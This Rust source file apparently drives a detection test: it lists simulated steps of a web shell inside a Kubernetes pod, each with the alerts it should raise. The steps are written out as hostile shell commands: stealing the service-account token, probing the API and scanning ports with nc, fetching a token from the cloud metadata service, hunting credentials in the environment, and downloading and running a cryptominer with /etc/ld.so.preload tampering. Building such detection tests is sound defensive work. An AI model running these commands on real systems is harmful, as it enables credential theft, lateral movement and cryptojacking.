//! Microsoft's simulation: a web shell in a pod is told to look around, and what comes after.

use super::{API, Action, By, COMMAND, DRIFT, ROOT, SCAN, SHELL};

pub(super) const ACTIONS: &[Action] = &[
    Action {
        name: "whoami",
        origin: "scenario webshell",
        does: "`ws.php` runs `whoami`",
        by: By::Victim("whoami"),
        raises: &[(SHELL, "Medium")],
        because: "",
    },
    Action {
        name: "recon",
        origin: "scenario recon",
        does: "by an encoded script: SelfSubjectAccessReview with the pod's token and `curl -A kubectl`, then a scan of \
               the service network",
        by: By::VictimEncoded(
            r#"token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
            body='{"kind":"SelfSubjectAccessReview","spec":{"resourceAttributes":{"verb":"get","resource":"pods"}}}'
            curl -sk -m 2 -A kubectl -H "Authorization: Bearer $token" -X POST -d "$body" \
                https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews
            for n in {1..40}; do nc -z -w 1 10.96.0.$n 443; done"#,
        ),
        raises: &[(SHELL, "High"), (API, "High"), (SCAN, "Medium")],
        because: "",
    },
    Action {
        name: "lateral-movement",
        origin: "scenario lateral-mov",
        does: "by an encoded script: a token from the metadata service, 169.254.169.254",
        by: By::VictimEncoded(
            "curl -s -m 2 -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'",
        ),
        raises: &[(SHELL, "High")],
        because: "That address in the hand of a web shell is one of its signs.",
    },
    Action {
        name: "secrets",
        origin: "scenario secrets",
        does: "by an encoded script: looks for the pod's token and for passwords in the environment",
        by: By::VictimEncoded(
            "head -c 50 /var/run/secrets/kubernetes.io/serviceaccount/token; set | grep AZURE_CREDENTIAL_FILE=",
        ),
        raises: &[(SHELL, "High")],
        because: "",
    },
    Action {
        name: "miner",
        origin: "scenario crypto",
        does: "by an encoded script: `modprobe msr allow_writes=on`, `/etc/ld.so.preload`, a download that is run as xmrig",
        by: By::VictimEncoded(
            "/sbin/modprobe msr allow_writes=on
            touch /etc/ld.so.preload
            curl -s http://127.0.0.1/miner -o xmrig && chmod +x xmrig && ./xmrig",
        ),
        raises: &[(SHELL, "High"), (DRIFT, "High"), (COMMAND, "Medium"), (ROOT, "Medium")],
        because: "",
    },
];
